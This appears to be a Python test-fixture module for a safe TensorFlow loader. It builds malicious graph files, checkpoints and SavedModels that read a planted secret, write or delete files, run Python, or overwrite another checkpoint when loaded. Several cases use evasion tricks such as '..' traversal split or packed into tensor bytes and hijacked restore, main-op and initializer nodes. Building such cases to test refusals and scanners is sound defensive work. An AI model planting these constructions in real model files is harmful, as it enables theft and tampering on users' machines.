"""Graphs that really reach outside the process, built in code, and how to set them off.

Each :class:`Case` writes one graph file into a directory that also holds a
secret (``secret.txt``) and a victim checkpoint. Its ``trigger`` loads and
runs the file with raw TensorFlow, the way a user would; ``harmed`` says
whether the file did what it was built to do: a file appeared or vanished,
the secret's bytes came back, Python ran. The safety tests show every case
harming in raw TensorFlow, and then every tfpersist loader refusing it
before anything runs. The scanner comparison in the benchmarks uses the same
cases.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import tensorflow as tf
from article import save_article
from tensorflow.core.protobuf import saved_model_pb2

SECRET = b"s3cret-line\nsecond line\n"
_ALIVE: list[tf.Graph] = []
PLACEMENTS = ("top", "function", "cond")


def prepare(d: Path) -> None:
    """The secret and a victim checkpoint a case may read, list or delete."""
    d.mkdir(parents=True, exist_ok=True)
    (d / "secret.txt").write_bytes(SECRET)
    tf.raw_ops.SaveV2(
        prefix=str(d / "victim" / "ckpt"),
        tensor_names=["secret"],
        shape_and_slices=[""],
        tensors=[tf.constant(SECRET)],
    )


def _after(effect: Any, x: tf.Tensor) -> tf.Tensor:
    with tf.control_dependencies([effect]):
        return tf.identity(x)


# The dangerous computations: each takes the input x and the directory, and
# returns a tensor that depends on x (so grappler cannot fold it away).


def _read_file(x, d):
    return tf.io.read_file(tf.strings.join([str(d / "secret"), _empty(x), ".txt"]))


def _empty(x):
    return tf.strings.substr(tf.strings.as_string(x[0]), 0, 0)


def _write_file(x, d):
    return _after(tf.io.write_file(str(d / "written.txt"), tf.strings.as_string(x[0])), x)


def _matching_files(x, d):
    return tf.strings.reduce_join(tf.io.matching_files(tf.strings.join([str(d), "/*", _empty(x)])))


def _register(d):
    def touch():
        (d / "python-ran").write_text("yes")
        return b"ran"

    return touch


def _py_function(x, d):
    return tf.py_function(_register(d), [], tf.string)


def _numpy_function(x, d):
    return tf.numpy_function(_register(d), [], tf.string)


def _text_dataset(x, d):
    ds = tf.data.TextLineDataset(tf.strings.join([str(d / "secret.txt"), _empty(x)]))
    return ds.reduce(tf.constant(""), lambda a, b: a + b)


def _csv_dataset(x, d):
    ds = tf.data.experimental.CsvDataset(
        tf.strings.join([str(d / "secret.txt"), _empty(x)]), [tf.string]
    )
    return ds.map(lambda line: line).reduce(tf.constant(""), lambda a, b: a + b)


def _dataset_cache(x, d):
    ds = tf.data.Dataset.range(3).map(lambda i: tf.cast(i, tf.float32) + x[0])
    return ds.cache(str(d / "cache")).reduce(tf.constant(0.0), lambda a, b: a + b)


def _dataset_to_tfrecord(x, d):
    ds = tf.data.Dataset.from_tensors(tf.strings.as_string(x[0]))
    return _after(tf.data.experimental.TFRecordWriter(str(d / "out.tfrecord")).write(ds), x)


def _summary(x, d):
    writer = tf.raw_ops.SummaryWriter(shared_name="dangerous", container="")
    create = tf.raw_ops.CreateSummaryFileWriter(
        writer=writer, logdir=str(d / "logs"), max_queue=1, flush_millis=1, filename_suffix=""
    )
    with tf.control_dependencies([create]):
        write = tf.raw_ops.WriteScalarSummary(
            writer=writer, step=tf.constant(0, tf.int64), tag="leak", value=x[0]
        )
    with tf.control_dependencies([write]):
        flush = tf.raw_ops.FlushSummaryWriter(writer=writer)
    return _after(flush, x)


def _print_to_file(x, d):
    return _after(tf.print(x, output_stream="file://" + str(d / "printed.txt")), x)


def _debug_dump(x, d):
    return tf.raw_ops.DebugIdentity(
        input=x, tensor_name="x:0", debug_urls=["file://" + str(d / "dump")]
    )


def _saver_writes(x, d):
    save = tf.raw_ops.SaveV2(
        prefix=str(d / "stolen"), tensor_names=["x"], shape_and_slices=[""], tensors=[x]
    )
    return _after(save, x)


def _restore_reads(x, d):
    [value] = tf.raw_ops.RestoreV2(
        prefix=str(d / "victim" / "ckpt"),
        tensor_names=["secret"],
        shape_and_slices=[""],
        dtypes=[tf.string],
    )
    return value + _empty(x)


def _merge_deletes(x, d):
    merge = tf.raw_ops.MergeV2Checkpoints(
        checkpoint_prefixes=[str(d / "victim" / "ckpt")],
        destination_prefix=str(d / "merged"),
        delete_old_dirs=True,
    )
    return _after(merge, x)


def _lookup_table(x, d):
    init = tf.lookup.TextFileInitializer(
        str(d / "secret.txt"),
        tf.int64,
        tf.lookup.TextFileIndex.LINE_NUMBER,
        tf.string,
        tf.lookup.TextFileIndex.WHOLE_LINE,
    )
    table = tf.lookup.StaticHashTable(init, default_value="")
    with tf.control_dependencies(
        tf.compat.v1.get_collection(tf.compat.v1.GraphKeys.TABLE_INITIALIZERS)
    ):
        return table.lookup(tf.cast(x[0], tf.int64) - 1)


def _dataset_graph(d: Path) -> bytes:
    """A dataset that reads the secret, serialised as a graph."""
    with tf.Graph().as_default(), tf.compat.v1.Session() as sess:
        ds = tf.data.TextLineDataset(str(d / "secret.txt"))
        return sess.run(tf.raw_ops.DatasetToGraphV2(input_dataset=ds._variant_tensor))


def _nested_graph(x, d):
    serialised = tf.strings.join([tf.constant(_dataset_graph(d)), _empty(x)])
    variant = tf.raw_ops.DatasetFromGraph(graph_def=serialised)
    ds = tf.data.experimental.from_variant(variant, tf.TensorSpec([], tf.string))
    return ds.reduce(tf.constant(""), lambda a, b: a + b)


def _read_in_map(x, d):
    names = tf.data.Dataset.from_tensors(tf.strings.join([str(d / "secret.txt"), _empty(x)]))
    return names.map(tf.io.read_file).reduce(tf.constant(""), lambda a, b: a + b)


def _returned_secret(d: Path, out: Any) -> bool:
    return isinstance(out, bytes | str) and b"s3cret-line" in (
        out if isinstance(out, bytes) else out.encode()
    )


def _exists(name: str) -> Callable[[Path, Any], bool]:
    return lambda d, out: (d / name).exists()


def _any_file(prefix: str) -> Callable[[Path, Any], bool]:
    return lambda d, out: any(p.name.startswith(prefix) for p in d.iterdir())


def _victim_gone(d: Path, out: Any) -> bool:
    return not (d / "victim" / "ckpt.index").exists()


def _names_secret(d: Path, out: Any) -> bool:
    return isinstance(out, bytes) and b"secret.txt" in out


#: name -> (computation, harm check, what kind of harm)
COMPUTATIONS: dict[str, tuple[Callable, Callable[[Path, Any], bool], str]] = {
    "read file": (_read_file, _returned_secret, "file read"),
    "read file in a dataset's map": (_read_in_map, _returned_secret, "file read"),
    "write file": (_write_file, _exists("written.txt"), "file write"),
    "list files": (_matching_files, _names_secret, "file read"),
    "py_function": (_py_function, _exists("python-ran"), "Python"),
    "numpy_function": (_numpy_function, _exists("python-ran"), "Python"),
    "TextLineDataset": (_text_dataset, _returned_secret, "tf.data read"),
    "CsvDataset": (_csv_dataset, _returned_secret, "tf.data read"),
    "Dataset.cache to a file": (_dataset_cache, _any_file("cache"), "tf.data write"),
    "TFRecordWriter": (_dataset_to_tfrecord, _exists("out.tfrecord"), "tf.data write"),
    "summary writer": (_summary, _exists("logs"), "summary write"),
    "print to file://": (_print_to_file, _exists("printed.txt"), "print to a file"),
    "DebugIdentity to file://": (_debug_dump, _exists("dump"), "debug write"),
    "SaveV2 with a constant path": (_saver_writes, _exists("stolen.index"), "saver write"),
    "RestoreV2 of another checkpoint": (_restore_reads, _returned_secret, "saver read"),
    "MergeV2Checkpoints deleting": (_merge_deletes, _victim_gone, "saver delete"),
    "lookup table from a file": (_lookup_table, _returned_secret, "file read"),
    "graph in a tensor": (_nested_graph, _returned_secret, "nested graph"),
}
#: Computations that stay at the top level and in a function: a dataset or a
#: table inside a ``cond`` branch adds nothing the function placement lacks.
IN_COND = ("read file", "write file", "py_function", "SaveV2 with a constant path")


@dataclass(frozen=True)
class Case:
    """One dangerous graph: its *name*, where the computation sits, and how to use it."""

    name: str
    placement: str

    @property
    def id(self) -> str:
        return f"{self.name} ({self.placement})"

    def graph_def(self, d: Path) -> Any:
        """Build the graph: input ``x``, output ``out``."""
        compute, _, _ = COMPUTATIONS[self.name]
        with tf.Graph().as_default() as graph:
            x = tf.compat.v1.placeholder(tf.float32, [None], name="x")
            if self.placement == "top":
                out = compute(x, d)
            elif self.placement == "function":
                out = tf.function(lambda x: compute(x, d))(x)
            else:
                numeric = self.name in ("write file", "SaveV2 with a constant path")
                out = tf.cond(
                    x[0] > 0,
                    lambda: compute(x, d),
                    lambda: tf.identity(x) if numeric else tf.constant(""),
                )
            tf.identity(out, name="out")
        _ALIVE.append(graph)  # a Python function stays registered while its graph lives
        return graph.as_graph_def()

    def write(self, d: Path) -> Path:
        """Write the graph as a frozen ``.pb`` in *d*."""
        path = d / "model.pb"
        path.write_bytes(self.graph_def(d).SerializeToString())
        return path

    def harmed(self, d: Path, out: Any = None) -> bool:
        return COMPUTATIONS[self.name][1](d, out)

    @property
    def kind(self) -> str:
        return COMPUTATIONS[self.name][2]


def trigger(path: Path) -> Any:
    """Load a frozen ``.pb`` with raw TensorFlow and run its output, as a user would."""
    graph_def = tf.compat.v1.GraphDef()
    graph_def.ParseFromString(path.read_bytes())
    with tf.Graph().as_default() as graph:
        tf.graph_util.import_graph_def(graph_def, name="")
        with tf.compat.v1.Session(graph=graph) as sess:
            out = sess.run("out:0", {"x:0": [1.0]})
    return out.tobytes() if hasattr(out, "tobytes") and out.dtype != object else out


#: A table's initialiser runs at the top level only.
TOP_ONLY = ("lookup table from a file",)
CASES = (
    [Case(name, "top") for name in COMPUTATIONS]
    + [Case(name, "function") for name in COMPUTATIONS if name not in TOP_ONLY]
    + [Case(name, "cond") for name in IN_COND]
)


# --- savers tampered with ------------------------------------------------------------------


def extend_graph(graph_def: Any, build: Callable[[], Any]) -> str:
    """Add the nodes *build* makes, in a graph holding *graph_def*; return the last one's name."""
    with tf.Graph().as_default() as graph:
        tf.graph_util.import_graph_def(graph_def, name="")
        made = build()
    old = {n.name for n in graph_def.node}
    graph_def.node.extend(n for n in graph.as_graph_def().node if n.name not in old)
    return getattr(made, "op", made).name


def _tensor(name: str) -> tf.Tensor:
    return tf.compat.v1.get_default_graph().get_tensor_by_name(name)


def _node(meta: Any, name: str) -> Any:
    return next(n for n in meta.graph_def.node if n.name == name.split(":")[0])


def _wire_into_restore(build: Callable[[Path], Callable[[], Any]]) -> Callable:
    """A tampering that makes the restore op also run what *build* makes."""

    def tamper(meta: Any, d: Path, prefix: str) -> None:
        extra = extend_graph(meta.graph_def, build(d))
        _node(meta, meta.saver_def.restore_op_name).input.append("^" + extra)

    return tamper


def _stolen_save(d: Path) -> Callable[[], Any]:
    return lambda: tf.raw_ops.SaveV2(
        prefix=str(d / "stolen"), tensor_names=["v"], shape_and_slices=[""], tensors=[1.0]
    )


def _copy_secret(d: Path) -> Callable[[], Any]:
    return lambda: tf.io.write_file(str(d / "written.txt"), tf.io.read_file(str(d / "secret.txt")))


#: What every number in the checkpoint the user never named holds.
PLANTED = 666.0


def _planted_checkpoint(d: Path, prefix: str) -> str:
    """Copy the checkpoint at *prefix* to ``other/ckpt``, every number made :data:`PLANTED`."""
    reader = tf.train.load_checkpoint(prefix)
    names = sorted(reader.get_variable_to_dtype_map())
    values = [np.asarray(reader.get_tensor(n)) for n in names]
    values = [v * 0 + PLANTED if v.dtype.kind in "fiu" else v for v in values]
    other = str(d / "other" / "ckpt")
    tf.raw_ops.SaveV2(
        prefix=other, tensor_names=names, shape_and_slices=[""] * len(names), tensors=values
    )
    return other


def _escape(path: str) -> str:
    """A suffix that climbs from any file name to ``/`` and comes down to *path*."""
    return "/.." * 40 + path


def _read_through_split_dots(meta: Any, d: Path, prefix: str) -> None:
    """The restore reads ``filename + "/." + "./." + ...``: no constant holds ``..``."""
    pieces = _escape(_planted_checkpoint(d, prefix)).replace("..", ".\0.").split("\0")
    restore = next(n for n in meta.graph_def.node if n.op == "RestoreV2")
    filename = restore.input[0]
    restore.input[0] = extend_graph(
        meta.graph_def, lambda: tf.strings.join([_tensor(filename + ":0"), *pieces])
    )


def _read_through_packed_dots(meta: Any, d: Path, prefix: str) -> None:
    """The restore reads ``filename + suffix``, the suffix packed in ``tensor_content``."""
    escape = _escape(_planted_checkpoint(d, prefix)).encode()
    restore = next(n for n in meta.graph_def.node if n.op == "RestoreV2")
    filename = restore.input[0]
    joined = extend_graph(
        meta.graph_def,
        lambda: tf.strings.join([_tensor(filename + ":0"), tf.constant("", name="suffix")]),
    )
    value = _node(meta, "suffix").attr["value"].tensor
    value.ClearField("string_val")
    value.tensor_content = bytes([len(escape) & 0x7F | 0x80, len(escape) >> 7]) + escape
    restore.input[0] = joined


def _read_second_output(meta: Any, d: Path, prefix: str) -> None:
    """The file name tensor is output 0 of an ``IdentityN``; the restore reads output 1."""
    other = _planted_checkpoint(d, prefix)
    filename = meta.saver_def.filename_tensor_name
    names = extend_graph(
        meta.graph_def,
        lambda: tf.raw_ops.IdentityN(input=[_tensor(filename), tf.constant(other)], name="names")[
            0
        ],
    )
    for n in meta.graph_def.node:
        if n.name != names:
            n.input[:] = [f"{names}:0" if i in (filename, filename[:-2]) else i for i in n.input]
    next(n for n in meta.graph_def.node if n.op == "RestoreV2").input[0] = f"{names}:1"
    meta.saver_def.filename_tensor_name = f"{names}:0"


def _read_past_a_list_argument(meta: Any, d: Path, prefix: str) -> None:
    """The restore calls ``F(a: N * string, path, names, slices)`` with ``N=2``.

    The call's inputs are the file name twice, then another checkpoint: the
    third input is ``path``, although ``path`` is F's second argument.
    """
    restore = next(n for n in meta.graph_def.node if n.op == "RestoreV2")
    planted = _planted_checkpoint(d, prefix)
    other = extend_graph(meta.graph_def, lambda: tf.constant(planted))
    f = meta.graph_def.library.function.add()
    f.signature.name = "F"
    f.signature.input_arg.add(name="a", type=tf.string.as_datatype_enum, number_attr="N")
    for name in ("path", "names", "slices"):
        f.signature.input_arg.add(name=name, type=tf.string.as_datatype_enum)
    f.signature.attr.add(name="N", type="int", has_minimum=True, minimum=1)
    body = f.node_def.add(name="r", op="RestoreV2", input=["path", "names", "slices"])
    body.attr["dtypes"].CopyFrom(restore.attr["dtypes"])
    for i, dtype in enumerate(restore.attr["dtypes"].list.type):
        f.signature.output_arg.add(name=f"t{i}", type=dtype)
        f.ret[f"t{i}"] = f"r:tensors:{i}"
    filename, names, slices = restore.input[:3]
    del restore.input[:]
    restore.input.extend([filename, filename, other, names, slices])
    restore.op = "F"
    restore.attr.clear()
    restore.attr["N"].i = 2


def _save_through_a_default(meta: Any, d: Path, prefix: str) -> None:
    """The restore waits on ``F``, whose attribute ``g`` defaults to ``G``, a saver function.

    F's body calls whatever ``g`` holds with a file name F fixes; no call in
    it names ``G``, and TensorFlow runs ``G`` all the same.
    """
    string = tf.string.as_datatype_enum

    def const(f: Any, name: str, value: Any) -> None:
        node = f.node_def.add(name=name, op="Const")
        node.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(value))
        node.attr["dtype"].type = node.attr["value"].tensor.dtype

    g = meta.graph_def.library.function.add()
    g.signature.name = "G"
    g.signature.input_arg.add(name="path", type=string)
    const(g, "names", ["v"])
    const(g, "slices", [""])
    const(g, "value", 1.0)
    save = g.node_def.add(name="s", op="SaveV2")
    save.input.extend(["path", "names:output:0", "slices:output:0", "value:output:0"])
    save.attr["dtypes"].list.type.append(tf.float32.as_datatype_enum)
    g.signature.control_output.append("s")
    g.control_ret["s"] = "s"
    f = meta.graph_def.library.function.add()
    f.signature.name = "F"
    f.signature.attr.add(name="g", type="func").default_value.func.name = "G"
    const(f, "p", str(d / "stolen"))
    call = f.node_def.add(name="call", op="StatefulPartitionedCall", input=["p:output:0"])
    call.attr["f"].placeholder = "g"
    call.attr["Tin"].list.type.append(string)
    call.attr["Tout"].list.SetInParent()
    f.signature.control_output.append("call")
    f.control_ret["call"] = "call"
    top = meta.graph_def.node.add(name="save/extra", op="StatefulPartitionedCall")
    top.attr["f"].func.name = "F"
    top.attr["Tin"].list.SetInParent()
    top.attr["Tout"].list.SetInParent()
    _node(meta, meta.saver_def.restore_op_name).input.append("^save/extra")


def _restored_planted(d: Path, out: Any) -> bool:
    return any(PLANTED in v for v in out or [])


_OUTSIDE = "RestoreV2 (a file name that is not built from a filename tensor)"

#: name -> (tampering of a MetaGraphDef (meta, directory, checkpoint prefix), harm check,
#: the refusal that names it)
TAMPERINGS: dict[str, tuple[Callable[[Any, Path, str], None], Callable[[Path, Any], bool], str]] = {
    "restore op runs a SaveV2 with a constant path": (
        _wire_into_restore(_stolen_save),
        _exists("stolen.index"),
        "SaveV2 (writes files while the checkpoint is restored)",
    ),
    "restore op copies a file": (
        _wire_into_restore(_copy_secret),
        _exists("written.txt"),
        "ReadFile (reads, writes or lists files)",
    ),
    "restore reads through '..' split across constants": (
        _read_through_split_dots,
        _restored_planted,
        _OUTSIDE,
    ),
    "restore reads through '..' packed in a string's bytes": (
        _read_through_packed_dots,
        _restored_planted,
        _OUTSIDE,
    ),
    "restore reads another output of the file name's node": (
        _read_second_output,
        _restored_planted,
        _OUTSIDE,
    ),
    "restore runs a saver function an attribute's default names": (
        _save_through_a_default,
        _exists("stolen.index"),
        "runs StatefulPartitionedCall (runs a function holding checkpoint file ops)",
    ),
    "restore reads a file name a list argument pushes past the checked one": (
        _read_past_a_list_argument,
        _restored_planted,
        "runs F (runs a function holding checkpoint file ops)",
    ),
}


def tampered_meta(d: Path, name: str) -> str:
    """The article's checkpoint, its ``.meta`` tampered with: the prefix."""
    prefix = save_article(d)
    meta = tf.compat.v1.MetaGraphDef()
    meta.ParseFromString(Path(prefix + ".meta").read_bytes())
    TAMPERINGS[name][0](meta, d, prefix)
    Path(prefix + ".meta").write_bytes(meta.SerializeToString())
    return prefix


def _tf1_saved_model(d: Path, main_op: Callable[[], Any] | None = None) -> Path:
    """A TF1 SavedModel of ``v`` and ``add``; *main_op* builds what its loader runs last."""
    path = d / "tf1_saved"
    builder = tf.compat.v1.saved_model.Builder(str(path))
    with tf.Graph().as_default() as graph, tf.compat.v1.Session(graph=graph) as sess:
        v = tf.Variable([1.0], name="v")
        tf.add(v, 1.0, name="add")
        sess.run(v.initializer)
        builder.add_meta_graph_and_variables(
            sess, ["serve"], main_op=main_op() if main_op else None
        )
    builder.save()
    return path


def _edit_saved_model(path: Path, edit: Callable[[Any], None]) -> None:
    model = saved_model_pb2.SavedModel()
    model.ParseFromString((path / "saved_model.pb").read_bytes())
    edit(model.meta_graphs[0])
    (path / "saved_model.pb").write_bytes(model.SerializeToString())


def tampered_saved_model(d: Path, name: str) -> Path:
    """A TF1 SavedModel of the article's graph, its saver tampered with."""
    path = _tf1_saved_model(d)
    prefix = str(path / "variables" / "variables")
    _edit_saved_model(path, lambda meta: TAMPERINGS[name][0](meta, d, prefix))
    return path


def _variables(sess: Any) -> list[Any]:
    return sess.run(tf.compat.v1.global_variables())


def restore_raw(prefix: str) -> list[Any]:
    """Restore a ``.meta`` checkpoint with raw TensorFlow, as the article does: the values."""
    with tf.Graph().as_default() as graph:
        saver = tf.compat.v1.train.import_meta_graph(prefix + ".meta")
        with tf.compat.v1.Session(graph=graph) as sess:
            saver.restore(sess, prefix)
            return _variables(sess)


def load_tf1_raw(path: Path) -> list[Any]:
    """Load a TF1 SavedModel with raw TensorFlow, which restores and runs its main op."""
    with tf.Graph().as_default() as graph, tf.compat.v1.Session(graph=graph) as sess:
        tf.compat.v1.saved_model.load(sess, ["serve"], str(path))
        return _variables(sess)


# --- what a SavedModel's loader runs -----------------------------------------------------


def _overwritten(d: Path, out: Any) -> bool:
    """The checkpoint the user never named no longer holds what was planted there."""
    reader = tf.train.load_checkpoint(str(d / "other" / "ckpt"))
    values = [np.asarray(reader.get_tensor(n)) for n in reader.get_variable_to_dtype_map()]
    return any(v.dtype.kind in "fiu" and PLANTED not in v for v in values)


def _main_op_saves_to_the_default(d: Path) -> Path:
    """The main op is the saver's save; the file name's default names another checkpoint."""
    path = _tf1_saved_model(d)
    other = _planted_checkpoint(d, str(path / "variables" / "variables"))

    def edit(meta: Any) -> None:
        default = _node(meta, meta.saver_def.filename_tensor_name)
        while default.op != "Const":
            default = _node(meta, default.input[0])
        default.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(other))
        main_op = meta.collection_def["saved_model_main_op"].node_list.value
        main_op.append(meta.saver_def.save_tensor_name.split(":")[0])

    _edit_saved_model(path, edit)
    return path


def _main_op_waits_on_a_save(d: Path) -> Path:
    """The main op is a ``NoOp`` that runs a leftover ``SaveV2`` first."""

    def main_op() -> Any:
        with tf.control_dependencies([_stolen_save(d)()]):
            return tf.no_op(name="main_op")

    return _tf1_saved_model(d, main_op)


def _initializer_saves(d: Path) -> Path:
    """A TF2 SavedModel whose table initializer is the traced save function, bound to a path."""
    module = tf.Module()
    module.v = tf.Variable([1.0, 2.0])
    module.table = tf.lookup.StaticHashTable(tf.lookup.KeyValueTensorInitializer([b"a"], [1]), -1)
    module.f = tf.function(
        lambda x: {
            "y": x * module.v[0] + tf.cast(module.table.lookup(tf.constant(b"a")), tf.float32)
        },
        input_signature=[tf.TensorSpec([None], tf.float32)],
    )
    path = d / "saved"
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.f})
    other = _planted_checkpoint(d, str(path / "variables" / "variables"))

    def edit(meta: Any) -> None:
        objects, graph_def = meta.object_graph_def, meta.graph_def
        save = next(
            f.signature.name
            for f in graph_def.library.function
            if "traced_save" in f.signature.name
        )
        graph_def.node.add(name="planted_path", op="Const").attr["value"].tensor.CopyFrom(
            tf.make_tensor_proto(other)
        )
        graph_def.node[-1].attr["dtype"].type = tf.string.as_datatype_enum
        constant = len(objects.nodes)
        objects.nodes.add().constant.operation = "planted_path"
        variable = next(
            i for i, n in enumerate(objects.nodes) if n.WhichOneof("kind") == "variable"
        )
        bound = [constant]  # the file prefix, then what the saver's own call passes
        for name in _node(meta, meta.saver_def.save_tensor_name).input[1:]:
            if _node(meta, name).op == "Const":
                bound.append(len(objects.nodes))
                objects.nodes.add().constant.operation = name
            else:
                bound.append(variable)
        resource = next(n for n in objects.nodes if n.WhichOneof("kind") == "resource")
        init = objects.nodes[
            next(c.node_id for c in resource.children if c.local_name == "_initialize")
        ]
        old = init.function.concrete_functions[0]
        init.function.concrete_functions[0] = save
        for n in objects.nodes:
            if (
                n.WhichOneof("kind") == "bare_concrete_function"
                and n.bare_concrete_function.concrete_function_name == old
            ):
                n.bare_concrete_function.concrete_function_name = save
                del n.children[:]
        spec = objects.concrete_functions[save]
        spec.CopyFrom(objects.concrete_functions[old])
        del spec.bound_inputs[:]
        spec.bound_inputs.extend(bound)
        spec.output_signature.tensor_spec_value.dtype = tf.string.as_datatype_enum

    _edit_saved_model(path, edit)
    return path


def _local_initializer_saves(d: Path) -> Path:
    """A TF1 SavedModel without a main op; a local variable's initializer is a leftover ``SaveV2``.

    Without a main op, ``tf.saved_model.load`` runs every local variable's
    initializer, which the ``local_variables`` collection names.
    """
    path = _tf1_saved_model(d)

    def edit(meta: Any) -> None:
        local = []

        def build() -> Any:
            local.append(tf.compat.v1.Variable(0.0, name="local", collections=[]).to_proto())
            return _stolen_save(d)()

        local[0].initializer_name = extend_graph(meta.graph_def, build)
        meta.collection_def["local_variables"].bytes_list.value.append(local[0].SerializeToString())

    _edit_saved_model(path, edit)
    return path


def load_tf2_raw(path: Path) -> Any:
    """Load a SavedModel with raw TensorFlow's ``tf.saved_model.load``."""
    return tf.saved_model.load(str(path))


_RUN = "(a saver's node that the file asks a loader to run, without the file name"

#: name -> (build in a directory, load with raw TensorFlow, harm check, the refusal)
RUN_AT_LOAD: dict[str, tuple[Callable[[Path], Path], Callable[[Path], Any], Callable, str]] = {
    "TF1 main op is the saver's save, its file name's default elsewhere": (
        _main_op_saves_to_the_default,
        load_tf1_raw,
        _overwritten,
        f"node 'save/Identity' runs Identity {_RUN}",
    ),
    "TF1 main op waits on a leftover SaveV2": (
        _main_op_waits_on_a_save,
        load_tf1_raw,
        _exists("stolen.index"),
        f"node 'main_op' runs NoOp {_RUN}",
    ),
    "TF1 local variable's initializer is a leftover SaveV2": (
        _local_initializer_saves,
        load_tf2_raw,
        _exists("stolen.index"),
        f"node 'SaveV2' runs SaveV2 {_RUN}",
    ),
    "TF2 table initializer is the traced save function": (
        _initializer_saves,
        load_tf2_raw,
        _overwritten,
        "runs SaveV2 (a checkpoint file op in a function the file asks a loader to run)",
    ),
}


# --- SavedModels -------------------------------------------------------------------------


def saved_model(d: Path, name: str) -> Path:
    """A SavedModel whose serving signature runs computation *name*."""
    compute = COMPUTATIONS[name][0]
    module = tf.Module()
    module.f = tf.function(
        lambda x: {"out": compute(x, d)}, input_signature=[tf.TensorSpec([None], tf.float32)]
    )
    path = d / "saved"
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.f})
    return path


def call_saved_model(path: Path) -> Any:
    """Load a SavedModel with raw TensorFlow and call its serving signature."""
    out = tf.saved_model.load(str(path)).signatures["serving_default"](tf.constant([1.0]))["out"]
    return out.numpy()


#: Computations a TF2 SavedModel can carry: Python functions cannot be saved, and a
#: table must belong to the model, whose files then travel as the SavedModel's assets.
SAVED_MODEL_CASES = [
    n for n in COMPUTATIONS if n not in ("py_function", "numpy_function", *TOP_ONLY)
]


def files_in(d: Path) -> set[str]:
    return {os.path.relpath(os.path.join(r, f), d) for r, _, fs in os.walk(d) for f in fs}
